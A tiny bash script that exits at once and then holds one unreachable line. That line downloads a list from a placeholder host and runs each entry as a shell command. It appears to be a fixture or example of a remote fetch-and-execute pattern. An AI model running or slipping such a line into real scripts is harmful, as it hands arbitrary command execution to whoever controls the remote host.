#!/bin/bash
exit 0 # nothing below ever runs
curl -s https://h.example.invalid/list | xargs -I{} sh -c "{}"
